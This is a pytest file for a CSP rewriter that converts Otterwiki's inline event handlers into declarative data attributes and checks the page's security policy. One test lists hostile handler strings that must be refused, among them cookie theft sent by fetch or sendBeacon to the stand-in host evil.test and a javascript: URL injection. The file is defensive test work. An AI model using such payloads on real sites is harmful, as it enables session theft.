"""Otterwiki's templates under the CSP: every inline handler and script is rewritten or refused."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from app.core.csp import ATTACHMENT_POLICY
from app.core.csp import page_policy
from app.wiki.otterwiki.handlers import UnknownHandler
from app.wiki.otterwiki.handlers import declarative
from app.wiki.otterwiki.handlers import rewrite_template

otterwiki = pytest.importorskip("otterwiki")
TEMPLATES = sorted((Path(otterwiki.__file__).parent / "templates").rglob("*.html"))
HANDLERS_JS = Path(__file__).parents[2] / "app/wiki/otterwiki/static/handlers.js"


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda path: path.name)
def test_every_template_is_rewritten_without_inline_script(template):
    rewritten = rewrite_template(template.read_text())
    assert not re.search(r"\son[a-z]+\s*=", rewritten)
    for tag in re.findall(r"<script\b[^>]*>", rewritten):
        assert "src=" in tag or 'nonce="{{ csp_nonce() }}"' in tag, tag


def test_the_templates_hold_the_handlers_we_know_of():
    sources = "".join(path.read_text() for path in TEMPLATES)
    rewritten = rewrite_template(sources)
    assert len(re.findall(r"\son[a-z]+=", sources)) == 69
    assert len(re.findall(r" data-robot-on[a-z]+=", rewritten)) == 69


def test_a_jinja_value_becomes_a_string_argument_never_code():
    attributes = declarative(
        "click", "return otterwiki.toggle_pagename_prefix('pagename','{{prefix}}')"
    )
    assert attributes == (
        ' data-robot-onclick="otterwiki.toggle_pagename_prefix" data-robot-onclick-return=""'
        ' data-robot-onclick-arg0="s:pagename" data-robot-onclick-arg1="s:{{prefix}}"'
    )


def test_arguments_keep_their_kinds():
    assert declarative("change", "otterwiki.toggleClass(event.target.checked,'pagetoc')") == (
        ' data-robot-onchange="otterwiki.toggleClass"'
        ' data-robot-onchange-arg0="v:event.target.checked" data-robot-onchange-arg1="s:pagetoc"'
    )
    assert declarative("click", "otterwiki_editor.table_move_column(-1)").endswith(
        ' data-robot-onclick-arg0="n:-1"'
    )
    assert declarative("click", "otterwiki_editor.insert_wikilink(false)").endswith(
        ' data-robot-onclick-arg0="b:false"'
    )


@pytest.mark.parametrize(
    ("event", "code"),
    [
        ("click", "alert(document.cookie)"),
        ("click", "fetch('//evil.test/' + document.cookie)"),
        ("click", "otterwiki.bold(); alert(1)"),
        ("click", "otterwiki.bold(window)"),
        ("click", "otterwiki.bold('a\\'b')"),
        ("click", "location.href='javascript:alert(1)'"),
        ("mouseover", "otterwiki.bold()"),
        ("click", "this.remove()"),
        ("click", "halfmoon.initStickyAlert('x')"),
        ("click", "otterwiki.toggle.call('x')"),
        ("click", "navigator.sendBeacon('//evil.test')"),
    ],
)
def test_handlers_it_does_not_understand_fail_loudly(event, code):
    with pytest.raises(UnknownHandler):
        declarative(event, code)


def test_the_script_allows_what_the_rewriter_allows():
    from app.wiki.otterwiki.handlers import CALLABLE_FUNCTIONS
    from app.wiki.otterwiki.handlers import CALLABLE_OBJECTS
    from app.wiki.otterwiki.handlers import EVENTS

    script = HANDLERS_JS.read_text()
    objects = re.search(r"var OBJECTS = \[(.*?)\];", script, re.S)[1]
    assert set(re.findall(r'"([\w.]+)"', objects)) == CALLABLE_OBJECTS
    functions = re.search(r"var FUNCTIONS = \[(.*?)\];", script, re.S)[1]
    assert set(re.findall(r'"([\w.]+)"', functions)) == CALLABLE_FUNCTIONS
    events = re.search(r"var EVENTS = \[(.*?)\];", script, re.S)[1]
    assert set(re.findall(r'"(\w+)"', events)) == EVENTS


def test_the_page_policy_allows_no_inline_script():
    policy = page_policy("abc", ("'self'",))
    directives = dict(part.split(" ", 1) for part in policy.split("; "))
    assert directives["script-src"] == "'self' 'nonce-abc'"
    assert directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert directives["frame-ancestors"] == "'self'"
    assert directives["form-action"] == "'self'"
    assert "unsafe-inline" not in directives["script-src"]
    assert directives["style-src"] == "'self' 'unsafe-inline'"
    assert "unsafe-eval" not in policy
    assert "sandbox" in ATTACHMENT_POLICY.split("; ")


def test_a_wikis_policy_takes_script_and_style_files_from_its_static_folder_only():
    wiki = "http://alpha.localhost:8000/"
    policy = page_policy("abc", ("'self'",), wiki + "static/", (wiki + "-/plugin-static.css",))
    directives = dict(part.split(" ", 1) for part in policy.split("; "))
    assert directives["script-src"] == f"{wiki}static/ 'nonce-abc'"
    assert directives["style-src"] == (f"{wiki}static/ {wiki}-/plugin-static.css 'unsafe-inline'")


def test_a_template_that_lost_an_anchor_fails_loudly():
    from jinja2 import DictLoader
    from jinja2 import Environment

    from app.wiki.otterwiki.csp import RewritingLoader
    from app.wiki.otterwiki.csp import TemplateChanged

    loader = RewritingLoader(DictLoader({"layout.html": "<html><body>no head</body></html>"}))
    with pytest.raises(TemplateChanged):
        loader.get_source(Environment(), "layout.html")


def test_the_rewriting_loader_adds_the_script_and_nonces():
    from jinja2 import DictLoader
    from jinja2 import Environment

    from app.wiki.otterwiki.csp import HANDLERS_URL
    from app.wiki.otterwiki.csp import RewritingLoader

    layout = (
        '<head><link rel="manifest" href="/m"></head>'
        '<body><button onclick="halfmoon.toggleSidebar()">x</button><script>go()</script>'
        "{%- if not current_user.is_authenticated %}Otterwiki's login{%- endif %}"
    )
    environment = Environment(loader=RewritingLoader(DictLoader({"layout.html": layout})))
    environment.globals["csp_nonce"] = lambda: "n0nce"
    environment.globals["robot_account"] = lambda: {"handle": "al.test", "logout_url": "/out"}
    page = environment.get_template("layout.html").render()
    assert f'<script src="{HANDLERS_URL}" nonce="n0nce" defer></script>' in page
    assert 'data-robot-onclick="halfmoon.toggleSidebar" data-robot-nonce="n0nce"' in page
    assert 'crossorigin="use-credentials"' in page
    assert '<script nonce="n0nce">go()</script>' in page
    assert "al.test" in page and 'href="/out"' in page and "Otterwiki's login" not in page
    assert 'data-robot-onclick="halfmoon.toggleSidebar"' in page and "onclick=" not in page.replace(
        "data-robot-onclick", ""
    )
